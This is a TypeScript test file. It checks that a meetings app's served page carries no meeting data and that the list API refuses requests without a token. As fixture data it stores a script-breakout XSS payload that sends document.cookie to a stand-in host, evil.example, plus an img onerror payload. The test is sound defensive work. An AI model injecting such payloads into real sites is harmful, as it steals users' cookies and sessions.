/**
 * The first screen's data never travels in the page (start-up, issue 11 item 11). The browser version's index.html is
 * served to any loopback peer without the per-run token (the token stays in the URL fragment, which the browser never
 * sends), so a page with the meetings list embedded would hand it — and whatever a meeting's name smuggles into the
 * HTML, such as `</script><script>` — to every local process that can reach the port. The list comes only through
 * the token-guarded API (requested by boot.ts before React is evaluated, which leaves the data off the critical path
 * just as embedding would). This pins that down: whatever is in the database, the page is the built file, unchanged.
 */
import fs from 'node:fs'
import http from 'node:http'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createHttpAdapter } from '../../electron/main/web/httpAdapter'
import { testBackend } from '../helpers/backend'
import { tempDir } from '../helpers/tmp'

const ATTACK = '</script><script>fetch("//evil.example/"+document.cookie)</script><!--'
const token = 'first-screen-token-0123456789'
let server: http.Server
let base = ''
let page = ''
let demoName = ''

beforeAll(async () => {
  const b = await testBackend()
  demoName = (await b.handlers['meetings.list']({}))[0]?.name ?? ''
  await b.handlers['meetings.create']({ name: ATTACK, date: '2026-12-07', place: '<img src=x onerror=alert(1)>', organiser: '秘书处' })
  const staticDir = tempDir('first-screen-static')
  page = fs.readFileSync(path.resolve(import.meta.dirname, '../../renderer/index.html'), 'utf8')
  fs.writeFileSync(path.join(staticDir, 'index.html'), page)
  server = createHttpAdapter({ handlers: b.handlers, token, staticDir, logError: () => {} })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()))
  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`
})
afterAll(() => new Promise<void>((r) => server.close(() => r())))

describe('the page served without the token', () => {
  it('carries no meeting data, and nothing a meeting name smuggles in', async () => {
    expect(demoName).not.toBe('')
    for (const p of ['/', '/index.html', '/?meetings=1', '/index.html#/meetings']) {
      const variants: Record<string, string>[] = [{}, { 'accept-encoding': 'identity' }, { authorization: `Bearer ${token}` }]
      for (const headers of variants) {
        const res = await fetch(base + p, { headers })
        expect(res.status).toBe(200)
        const html = await res.text()
        expect(html).toBe(page)
        expect(html).not.toContain(demoName)
        expect(html).not.toContain('evil.example')
        expect(html).not.toContain('onerror')
        expect(html).not.toMatch(/<script[^>]*type="application\/json"/)
      }
    }
  })

  it('while the list itself needs the token', async () => {
    const refused = await fetch(`${base}/api/meetings.list`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })
    expect(refused.status).toBe(401)
    expect(await refused.text()).not.toContain(demoName)
    const answered = await fetch(`${base}/api/meetings.list`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: '{}' })
    const body = (await answered.json()) as { ok: boolean; data: { name: string }[] }
    expect(body.data.map((m) => m.name)).toContain(ATTACK)
  })
})
